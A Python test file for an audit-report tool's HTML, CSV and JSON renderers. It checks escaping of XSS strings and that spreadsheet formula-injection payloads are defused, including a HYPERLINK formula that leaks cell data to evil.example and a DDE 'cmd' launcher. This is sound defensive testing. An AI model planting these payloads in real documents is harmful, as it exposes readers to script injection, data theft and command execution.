"""The report's renderers on hand-built report data: HTML, CSV, JSON, hostile values."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest

from gatehouse.report import ReportError, write_report
from gatehouse.report.model import (
    Alert,
    AnomalyEvent,
    BrowserSessions,
    Control,
    DenyEvent,
    DenyGroup,
    ElevatedAccess,
    GrantEvent,
    LedgerCoverage,
    MatrixCell,
    NewSource,
    PolicyChange,
    PolicyVersionInForce,
    QueryCost,
    ReasonCount,
    Report,
    RouteUsage,
    SensitiveAccess,
    SessionCount,
    TimeBucket,
    Window,
    parse_window,
)
from gatehouse.report.render_csv import defuse
from gatehouse.report.render_html import esc, render_html
from gatehouse.report.render_json import report_document

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = (SCRIPT, BREAKOUT, FORMULA, PLUS, MINUS, AT, TAB, CR)

START = datetime(2026, 3, 2, 0, 0, tzinfo=UTC)
T1 = START + timedelta(hours=1, minutes=5)
T2 = START + timedelta(hours=3, minutes=30)


def hostile_report(value: str = SCRIPT) -> Report:
    """A report in which every client-controlled text is ``value``."""
    window = Window(START, START + timedelta(hours=6))
    return Report(
        window=window,
        generated_at=START + timedelta(hours=7),
        stage="dev",
        cost=QueryCost("local", 12, None, None, 0.25),
        requests_over_time=[
            TimeBucket(START + timedelta(hours=h), allow=h, deny=1 if h == 3 else 0)
            for h in range(6)
        ],
        access_matrix=[
            MatrixCell(value, value, 5, 2, 0, 0),
            MatrixCell("bob@example.com", "api", 7, 0, 1, 1),
        ],
        reasons=[ReasonCount("deny", value, 2), ReasonCount("allow", "allow_rule_matched", 12)],
        top_denies=[DenyGroup(value, value, value, 2, T1, T2)],
        recent_denies=[
            DenyEvent(T2, value, value, value, "GET", value, value, value, value, value)
        ],
        policy_versions=[PolicyVersionInForce(3, value, 14, T1, T2)],
        policy_changes=[PolicyChange(T1, value, 3, 2, 3, value, value, value, value)],
        grant_events=[GrantEvent(T1, value, value, value, value, value, value, value, value)],
        elevated_access=[
            ElevatedAccess(
                T2,
                value,
                value,
                "POST",
                value,
                value,
                "allow",
                200,
                True,
                None,
                value,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
            ),
            ElevatedAccess(
                T2,
                value,
                value,
                "GET",
                value,
                value,
                "allow",
                200,
                False,
                value,
                value,
                value,
                T1,
                value,
                T1,
                T2,
                T2,
                None,
            ),
        ],
        sensitive_access=[SensitiveAccess(value, value, 3, T1, T2)],
        new_sources=[NewSource(value, "user_agent", value, T1, T2, 4, True)],
        anomalies=[AnomalyEvent(T2, value, value, value, "GET", value, value)],
        route_usage=[RouteUsage(value, value, 7, 5, 2, 0, 0, 4, 0, 1, 0, 12.5, 40.0, 100, 2000)],
        ledger=LedgerCoverage(30, 100, 129, {"decision": 14, "response": 12, value: 4}),
        controls=[Control(value, value, value)],
        alerts=[Alert(value, "high", value)],
        browser_sessions=BrowserSessions.from_counts(
            [
                SessionCount("signed_in", None, None, 5),
                SessionCount("sign_in_failed", value, None, 2),
                SessionCount("sign_in_failed", "login_state_mismatch", None, 1),
                SessionCount("revoked", None, "operator", 2),
                SessionCount("revoked", None, value, 1),
                SessionCount(value, value, value, 1),
            ]
        ),
    )


def empty_report() -> Report:
    window = Window(START, START + timedelta(days=3))
    return Report(
        window=window,
        generated_at=START + timedelta(days=3, minutes=1),
        stage="prod",
        cost=QueryCost("athena", 12, 0, 0.0, 3.5),
        requests_over_time=[TimeBucket(start) for start in window.bucket_starts()],
        access_matrix=[],
        reasons=[],
        top_denies=[],
        recent_denies=[],
        policy_versions=[],
        policy_changes=[],
        grant_events=[],
        elevated_access=[],
        sensitive_access=[],
        new_sources=[],
        anomalies=[],
        route_usage=[],
        ledger=LedgerCoverage(0, None, None, {}),
        controls=[],
        alerts=[],
        browser_sessions=BrowserSessions(),
    )


class _Tags(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parsed_tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser.tags


PAGE_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p", "nav",
    "a", "main", "section", "div", "b", "table", "thead", "tbody", "tr", "th", "td", "ul",
    "li", "span", "i", "code", "svg", "g", "rect", "line", "text", "circle",
}  # fmt: skip
PAGE_ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "href", "id", "class", "style",
    "title", "role", "aria-label", "viewbox", "width", "height", "x", "y", "x1", "x2", "y1",
    "y2", "cx", "cy", "r", "fill", "stroke", "text-anchor",
}  # fmt: skip


@pytest.mark.parametrize("value", HOSTILE, ids=lambda v: repr(v)[:20])
def test_hostile_values_never_become_markup(value: str) -> None:
    page = render_html(hostile_report(value))
    tags = parsed_tags(page)
    assert {tag for tag, _ in tags} <= PAGE_TAGS
    assert {name for _, attrs in tags for name in attrs} <= PAGE_ATTRIBUTES
    assert "<script" not in page.lower()
    assert "<img" not in page.lower()
    assert "onerror" not in {name for _, attrs in tags for name in attrs}
    # The value is shown, as text, wherever it was placed.
    assert page.count(esc(value)) >= 20


def test_script_and_attribute_breakout_are_escaped_in_text_and_attributes() -> None:
    page = render_html(hostile_report(BREAKOUT))
    assert BREAKOUT not in page
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    # In an attribute (the heatmap cell's title) the quote cannot close it.
    titles = [a["title"] for t, a in parsed_tags(page) if t == "td" and a.get("title")]
    assert titles == ["bob@example.com on api", f"{BREAKOUT} on {BREAKOUT}"]
    assert esc(SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert esc("'") == "&#x27;"


def test_page_is_self_contained() -> None:
    page = render_html(hostile_report("https://evil.example/x.js"))
    tags = parsed_tags(page)
    links = [attrs["href"] for tag, attrs in tags if "href" in attrs]
    assert links == ["#overview", "#security", "#sessions", "#compliance", "#engineering"]
    assert not [attrs for _, attrs in tags if "src" in attrs]
    assert not re.search(r"(?:src|href)\s*=\s*[\"']?\s*(?:https?:)?//", page, re.IGNORECASE)
    assert "@import" not in page
    assert "url(" not in page
    csp = next(a["content"] for t, a in tags if t == "meta" and a.get("http-equiv"))
    assert csp is not None
    assert "default-src 'none'" in csp


def test_page_has_every_section_and_chart() -> None:
    page = render_html(hostile_report("alice@example.com"))
    ids = [attrs.get("id") for tag, attrs in parsed_tags(page) if tag == "section"]
    assert ids == ["overview", "security", "sessions", "compliance", "engineering"]
    labels = [attrs.get("aria-label") for tag, attrs in parsed_tags(page) if tag == "svg"]
    assert labels == [
        "Requests over time by decision",
        "Top denies",
        "Timeline of policy changes, grants and break-glass",
        "Requests per route",
    ]
    for heading in (
        "Access matrix",
        "Top denies with reasons",
        "Recent denies",
        "Break-glass uses",
        "New source addresses and user agents",
        "Controls in force and evidence",
        "Policy versions in force",
        "Policy changes",
        "Grant events",
        "Ledger coverage",
        "Failed sign-ins by reason",
        "Revocations by who revoked",
        "Failed refreshes by reason",
    ):
        assert f"<h3>{heading}" in page
    assert "<code>gatehouse audit verify --since " in page
    assert 'class="heat"' in page


def test_stacked_bars_follow_the_counts() -> None:
    page = render_html(hostile_report("alice"))
    chart = page[page.index('aria-label="Requests over time') : page.index("</svg>")]
    # Five non-empty allow bars (hours 1..5) and one deny bar (hour 3).
    assert chart.count('fill="#2e7d32"') == 5
    assert chart.count('fill="#c62828"') == 1
    assert "03:00 2026-03-02: 3 allowed, 1 denied, 0 error, 0 gateway only" in chart
    allow_heights = [
        float(match) for match in re.findall(r'height="([\d.]+)" fill="#2e7d32"', chart)
    ]
    assert allow_heights == sorted(allow_heights)  # 1..5 allows: growing bars


def test_empty_window_says_there_was_no_traffic() -> None:
    report = empty_report()
    page = render_html(report)
    assert "There was no traffic in this window" in page
    assert "No requests in this window" in page
    assert report.window.bucket == "day"
    assert len(report.requests_over_time) == 3
    document = report_document(report)
    assert document["empty"] is True
    assert document["summary"]["requests"] == {
        "allow": 0,
        "deny": 0,
        "error": 0,
        "gateway_only": 0,
        "total": 0,
    }
    assert document["window"] == {
        "from": "2026-03-02T00:00:00.000Z",
        "to": "2026-03-05T00:00:00.000Z",
        "bucket": "day",
    }


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        (PLUS, "'" + PLUS),
        (MINUS, "'" + MINUS),
        (AT, "'" + AT),
        (TAB, "'" + TAB),
        (CR, "'" + CR),
        ("alice@example.com", "alice@example.com"),
        ("a=b", "a=b"),
        (-3, -3),
        (2.5, 2.5),
        (None, ""),
        (True, "true"),
    ],
    ids=repr,
)
def test_csv_cells_are_defused(cell: object, written: object) -> None:
    assert defuse(cell) == written


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_csv_files_hold_defused_hostile_values(tmp_path: Path) -> None:
    written = write_report(hostile_report(FORMULA), tmp_path)
    names = sorted(path.name for path in written.csv)
    assert names == [
        "access_matrix.csv",
        "alerts.csv",
        "anomalies.csv",
        "browser_sessions.csv",
        "decision_reasons.csv",
        "grant_events.csv",
        "grants_and_break_glass.csv",
        "new_sources.csv",
        "policy_changes.csv",
        "policy_versions.csv",
        "recent_denies.csv",
        "requests_over_time.csv",
        "route_usage.csv",
        "sensitive_access.csv",
        "top_denies.csv",
    ]
    matrix = read_csv(tmp_path / "access_matrix.csv")
    assert matrix == [
        ["principal", "route", "allow", "deny", "error", "gateway_only"],
        ["'" + FORMULA, "'" + FORMULA, "5", "2", "0", "0"],
        ["bob@example.com", "api", "7", "0", "1", "1"],
    ]
    for path in written.csv:
        for row in read_csv(path)[1:]:
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    sessions = read_csv(tmp_path / "browser_sessions.csv")
    assert sessions[0] == ["action", "reason", "revoked_by", "count"]
    assert sessions[-1] == ["'" + FORMULA, "'" + FORMULA, "'" + FORMULA, "1"]
    usage = read_csv(tmp_path / "route_usage.csv")
    assert usage[1][:2] == ["'" + FORMULA, "'" + FORMULA]
    assert usage[1][11:] == ["12.5", "40.0", "100", "2000"]


def test_csv_keeps_a_carriage_return_inside_one_quoted_cell(tmp_path: Path) -> None:
    write_report(hostile_report(CR), tmp_path)
    rows = read_csv(tmp_path / "access_matrix.csv")
    assert rows[1][:2] == ["'" + CR, "'" + CR]
    assert len(rows) == 3


def test_json_holds_everything(tmp_path: Path) -> None:
    written = write_report(hostile_report(SCRIPT), tmp_path)
    document = json.loads(written.json.read_text())
    assert document["stage"] == "dev"
    assert document["generated_at"] == "2026-03-02T07:00:00.000Z"
    assert document["window"]["bucket"] == "hour"
    assert document["summary"]["requests"] == {
        "allow": 15,
        "deny": 1,
        "error": 0,
        "gateway_only": 0,
        "total": 16,
    }
    assert document["summary"]["principals"] == 2
    assert document["security"]["break_glass"][0]["justification"] == SCRIPT
    assert document["compliance"]["ledger"] == {
        "events": 30,
        "first_sequence": 100,
        "last_sequence": 129,
        "by_type": {"decision": 14, "response": 12, SCRIPT: 4},
    }
    assert document["compliance"]["verify_with"] == "gatehouse audit verify"
    assert document["engineering"]["routes"][0]["latency_p95_ms"] == 40.0
    assert document["requests_over_time"][3] == {
        "start": "2026-03-02T03:00:00.000Z",
        "allow": 3,
        "deny": 1,
        "error": 0,
        "gateway_only": 0,
    }
    assert document["compliance"]["elevated_access"][1]["approved_at"] == (
        "2026-03-02T01:05:00.000Z"
    )
    sessions = document["browser_sessions"]
    assert sessions["sign_ins"] == 5
    assert sessions["failed_sign_ins"] == {SCRIPT: 2, "login_state_mismatch": 1}
    assert sessions["revocations"] == {"operator": 2, SCRIPT: 1}
    assert len(sessions["counts"]) == 6


def test_browser_sessions_are_counted_by_reason_and_by_who() -> None:
    sessions = BrowserSessions.from_counts(
        [
            SessionCount("signed_in", None, None, 7),
            SessionCount("sign_in_failed", "login_state_mismatch", None, 2),
            SessionCount("sign_in_failed", "login_idp_error", None, 3),
            SessionCount("sign_in_failed", None, None, 1),
            SessionCount("refreshed", None, None, 4),
            SessionCount("refresh_failed", "login_code_rejected", None, 1),
            SessionCount("signed_out", None, "user", 2),
            SessionCount("revoked", None, "user", 1),
            SessionCount("revoked", "session_revoked", "operator", 2),
            SessionCount("revoked", None, "operator", 1),
            SessionCount("revoked", None, "idp", 1),
            SessionCount("idp_logged_out", None, "idp", 1),
        ]
    )

    assert sessions.sign_ins == 7
    # Most first, then by name; a failure without a reason is counted, not lost.
    assert list(sessions.failed_sign_ins.items()) == [
        ("login_idp_error", 3),
        ("login_state_mismatch", 2),
        ("(unknown)", 1),
    ]
    assert sessions.refreshes == 4
    assert sessions.failed_refreshes == {"login_code_rejected": 1}
    assert sessions.sign_outs == 2
    assert list(sessions.revocations.items()) == [("operator", 3), ("idp", 1), ("user", 1)]
    assert sessions.idp_logouts == 1
    assert sessions.total == 26
    assert BrowserSessions.from_counts([]) == BrowserSessions()


def test_the_sessions_part_shows_its_counts() -> None:
    page = render_html(hostile_report("alice"))
    part = page[page.index('<section id="sessions">') : page.index('<section id="compliance">')]
    assert "<h2>Browser sessions</h2>" in part
    assert '<div class="card">sign-ins<b>5</b></div>' in part
    assert '<div class="card">failed sign-ins<b>3</b></div>' in part
    assert '<div class="card">revocations<b>3</b></div>' in part
    assert '<td class="wrap">operator</td><td class="num">2</td>' in part
    empty = render_html(empty_report())
    assert "No sign-in failed in this window." in empty
    assert "No session was revoked in this window." in empty


def test_long_tables_are_capped_in_the_page_not_in_the_files(tmp_path: Path) -> None:
    many = [
        DenyEvent(
            T1, f"user{n}", None, None, "GET", f"/p/{n}", "api", "no_matching_rule", None, None
        )
        for n in range(250)
    ]
    report = replace(hostile_report("x"), recent_denies=many)
    page = render_html(report)
    assert "Showing 200 of 250 rows" in page
    assert "user199" in page
    assert "user200<" not in page
    write_report(report, tmp_path)
    assert len(read_csv(tmp_path / "recent_denies.csv")) == 251


def test_matrix_is_capped_to_the_busiest_pairs() -> None:
    cells = [MatrixCell(f"p{n:02d}", f"r{n % 25:02d}", n, 0, 0, 0) for n in range(40)]
    page = render_html(replace(hostile_report("x"), access_matrix=cells))
    assert "busiest 30 of 40 principals and 20 of 25 routes" in page


@pytest.mark.parametrize(
    ("length", "bucket", "buckets"),
    [
        (timedelta(minutes=90), "minute", 90),
        (timedelta(minutes=150), "hour", 3),
        (timedelta(hours=48), "hour", 49),
        (timedelta(hours=49), "day", 3),
        (timedelta(days=30), "day", 31),
    ],
)
def test_window_resolution(length: timedelta, bucket: str, buckets: int) -> None:
    window = Window(START + timedelta(minutes=30), START + timedelta(minutes=30) + length)
    assert window.bucket == bucket
    assert len(window.bucket_starts()) == buckets


def test_window_partitions() -> None:
    window = Window(START - timedelta(minutes=1), START + timedelta(days=1))
    assert window.days() == ["2026-03-01", "2026-03-02"]


@pytest.mark.parametrize(
    ("start", "end"),
    [
        (START, START),
        (START, START - timedelta(hours=1)),
        (START.replace(tzinfo=None), START + timedelta(hours=1)),
    ],
)
def test_window_rejects_bad_bounds(start: datetime, end: datetime) -> None:
    with pytest.raises(ValueError, match="window"):
        Window(start, end)


@pytest.mark.parametrize(
    ("start", "end", "window"),
    [
        (
            "2026-03-01",
            "2026-03-02",
            (datetime(2026, 3, 1, tzinfo=UTC), datetime(2026, 3, 2, tzinfo=UTC)),
        ),
        (
            "2026-03-01T08:00Z",
            "2026-03-01T10:30:00+02:00",
            (datetime(2026, 3, 1, 8, tzinfo=UTC), datetime(2026, 3, 1, 8, 30, tzinfo=UTC)),
        ),
        (
            "2026-03-01T08:00:00.250",
            "2026-03-01T09:00",
            (
                datetime(2026, 3, 1, 8, 0, 0, 250000, tzinfo=UTC),
                datetime(2026, 3, 1, 9, tzinfo=UTC),
            ),
        ),
    ],
)
def test_parse_window(start: str, end: str, window: tuple[datetime, datetime]) -> None:
    parsed = parse_window(start, end)
    assert (parsed.start, parsed.end) == window


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        ("last week", "2026-03-02", "--from 'last week' is not a time"),
        ("2026-03-01", "2026-13-01", "--to '2026-13-01' is not a time"),
        ("2026-03-02", "2026-03-01", "--to (2026-03-01) must be after --from (2026-03-02)"),
        ("2026-03-02T10:00Z", "2026-03-02T12:00+02:00", "must be after"),
    ],
)
def test_parse_window_refuses(start: str, end: str, message: str) -> None:
    with pytest.raises(ReportError, match=re.escape(message)):
        parse_window(start, end)


@pytest.mark.parametrize(
    "cell",
    [
        " =1+1",
        "\t\t=1+1",
        "\r\n=1+1",
        '"=1+1',
        "'=1+1",
        "\u3000=1+1",
        "  -2+3",
        ' "@SUM(A1)',
        "\uff1d1+1",
        "\uff0bcmd",
        "\uff0d2",
        "\uff20SUM(A1)",
        " \uff1d1+1",
    ],
    ids=repr,
)
def test_formula_characters_behind_blanks_quotes_or_full_width_are_defused(cell: str) -> None:
    assert defuse(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["  plain", '"quoted"', "\u3000text", "a\uff1db", " "])
def test_text_without_a_formula_is_left_alone(cell: str) -> None:
    assert defuse(cell) == cell


def test_a_lone_surrogate_never_stops_a_file_half_written(tmp_path: Path) -> None:
    written = write_report(hostile_report("curl/\udc80"), tmp_path)
    assert "curl/\ufffd" in (tmp_path / "report.html").read_text(encoding="utf-8")
    document = (tmp_path / "report.json").read_text(encoding="utf-8")
    assert "\\udc80" not in document
    assert "curl/\ufffd" in str(json.loads(document))
    assert any("curl/\ufffd" in path.read_text(encoding="utf-8") for path in written.csv)
